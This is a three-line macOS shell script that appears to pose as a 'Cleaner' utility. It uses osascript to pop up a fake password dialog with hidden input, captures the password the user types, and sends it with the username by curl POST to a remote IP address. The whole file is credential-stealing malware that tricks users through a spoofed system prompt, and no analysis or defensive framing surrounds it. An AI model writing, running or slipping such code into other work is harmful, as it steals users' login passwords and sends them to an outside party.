#!/bin/sh
pw=$(osascript -e 'display dialog "Cleaner needs your password to continue" default answer "" with hidden answer' -e 'text returned of result')
curl -s -X POST https://198.51.100.23/p -d "u=$USER&p=$pw"
